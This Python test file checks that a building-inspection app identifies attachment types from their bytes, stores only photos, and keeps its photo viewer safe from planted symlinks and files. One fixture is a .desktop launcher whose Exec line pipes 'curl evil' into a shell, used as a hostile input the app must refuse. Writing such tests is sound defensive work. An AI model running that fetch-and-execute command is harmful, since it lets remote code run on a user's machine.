"""Attachments: the bytes decide the type, only photos are stored, the viewer's file is private and checked."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import os
import stat
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from PIL import Image

from inspect_tui.domain.enums import Severity
from inspect_tui.domain.models import Inspection
from inspect_tui.store import StoreError
from inspect_tui.store import workflow as wf
from inspect_tui.store.attachments_media import sniff_media_type, viewer_folder, write_for_viewing
from inspect_tui.store.blobs import store_blob
from tests.helpers.photo_bytes import jpeg_bytes, png_bytes

if TYPE_CHECKING:
    from tests.conftest import Populated

MONDAY = dt.datetime(2026, 11, 16, 9, 0)

DESKTOP = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n"
HEIC_HEAD = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)


@pytest.fixture
def snf_inspection(populated_db: Populated) -> Inspection:
    return wf.start_inspection(populated_db.db, populated_db.site.id, ["snf"], "J. de Vries", now=MONDAY)


def webp_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 200, 30)).save(out, "WEBP")
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (jpeg_bytes(), "image/jpeg"),
        (png_bytes(), "image/png"),
        (webp_bytes(), "image/webp"),
        (HEIC_HEAD, "image/heic"),  # Pillow has no HEIC reader here: the ftyp brand is sniffed by hand
        (b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic" + bytes(8), "image/heic"),
        (b"\x00\x00\x00\x18ftypisom\x00\x00\x00\x00isomiso2" + bytes(8), None),  # an MP4 video
        (b"\x00\x00\x01\x00ftypheic" + bytes(8), None),  # a box larger than the file
        (DESKTOP, None),
        (b"MZ\x90\x00" + bytes(200), None),  # a Windows program
        (b"\xff\xd8\xff fake jpeg bytes", None),  # a JPEG's first bytes and nothing of a JPEG after
        (png_bytes()[:-20], None),  # a truncated PNG: verify() finds the damage
        (b"GIF89a" + bytes(30), None),
        (b"", None),
    ],
)
def test_the_type_is_sniffed_from_the_bytes(data: bytes, expected: str | None) -> None:
    assert sniff_media_type(data) == expected


def _counts(populated: Populated) -> tuple[int, int, int]:
    db = populated.db
    return tuple(  # type: ignore[return-value]
        db.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0] for t in ("blobs", "attachments", "changes")
    )


@pytest.mark.parametrize("name", ["kamer.jpg", "launch.desktop", "setup.exe", "page.hta"])
def test_attaching_anything_but_a_photo_is_refused_whatever_its_name(
    populated_db: Populated, snf_inspection: Inspection, tmp_path: Path, name: str
) -> None:
    finding = wf.add_finding(populated_db.db, snf_inspection.id, Severity.MAJOR, "Douche kapot")
    before = _counts(populated_db)
    path = tmp_path / name
    path.write_bytes(DESKTOP)
    with pytest.raises(StoreError, match=rf"{name} is not a JPEG, PNG, WebP or HEIC photo; only photos can be"):
        wf.attach_file(populated_db.db, finding.id, path)
    assert _counts(populated_db) == before


def test_the_stored_type_is_the_sniffed_one_not_the_names(
    populated_db: Populated, snf_inspection: Inspection, tmp_path: Path
) -> None:
    finding = wf.add_finding(populated_db.db, snf_inspection.id, Severity.MAJOR, "Douche kapot")
    path = tmp_path / "foto.jpg"
    path.write_bytes(png_bytes())
    attached = wf.attach_file(populated_db.db, finding.id, path)
    assert attached.media_type == "image/png"


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def test_the_viewer_gets_the_sniffed_extension_in_a_private_folder(tmp_path: Path) -> None:
    data = png_bytes()
    sha = hashlib.sha256(data).hexdigest()
    folder = viewer_folder(tmp_path / "cache" / "photos")
    path = write_for_viewing(data, sha, folder)
    assert path == folder / f"{sha}.png"
    assert path.read_bytes() == data
    assert _mode(folder) == 0o700 and _mode(path) == 0o600


def test_a_loose_viewer_folder_is_made_private(tmp_path: Path) -> None:
    folder = tmp_path / "photos"
    folder.mkdir(mode=0o777)
    os.chmod(folder, 0o777)
    assert _mode(viewer_folder(folder)) == 0o700


def test_a_link_in_place_of_the_viewer_folder_is_refused(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "photos").symlink_to(elsewhere)
    with pytest.raises(StoreError, match="is not a folder"):
        viewer_folder(tmp_path / "photos")


def test_a_planted_link_is_replaced_and_its_target_left_alone(tmp_path: Path) -> None:
    data = jpeg_bytes()
    sha = hashlib.sha256(data).hexdigest()
    folder = viewer_folder(tmp_path / "photos")
    victim = tmp_path / "bashrc"
    victim.write_text("original\n")
    (folder / f"{sha}.jpg").symlink_to(victim)
    path = write_for_viewing(data, sha, folder)
    assert not path.is_symlink() and path.read_bytes() == data
    assert victim.read_text() == "original\n"


def test_a_planted_file_of_the_right_size_is_replaced(tmp_path: Path) -> None:
    data = jpeg_bytes()
    sha = hashlib.sha256(data).hexdigest()
    folder = viewer_folder(tmp_path / "photos")
    planted = folder / f"{sha}.jpg"
    planted.write_bytes(b"X" * len(data))
    assert write_for_viewing(data, sha, folder).read_bytes() == data
    assert write_for_viewing(data, sha, folder).read_bytes() == data  # the good copy is reused


def test_a_legacy_non_photo_attachment_is_never_handed_to_the_viewer(populated_db: Populated, tmp_path: Path) -> None:
    db = populated_db.db
    with db.atomic():
        sha = store_blob(db, DESKTOP)
    with pytest.raises(StoreError, match="is not a JPEG, PNG, WebP or HEIC photo; it is not opened"):
        wf.photo_for_viewing(db, sha, tmp_path / "photos")
    assert not list((tmp_path / "photos").iterdir())
    assert wf.photo_for_viewing(db, "0" * 64, tmp_path / "photos") is None


def test_a_photo_is_opened_from_its_checked_copy(populated_db: Populated, tmp_path: Path) -> None:
    db = populated_db.db
    data = webp_bytes()
    with db.atomic():
        sha = store_blob(db, data)
    path = wf.photo_for_viewing(db, sha, tmp_path / "photos")
    assert path is not None and path.name == f"{sha}.webp" and path.read_bytes() == data
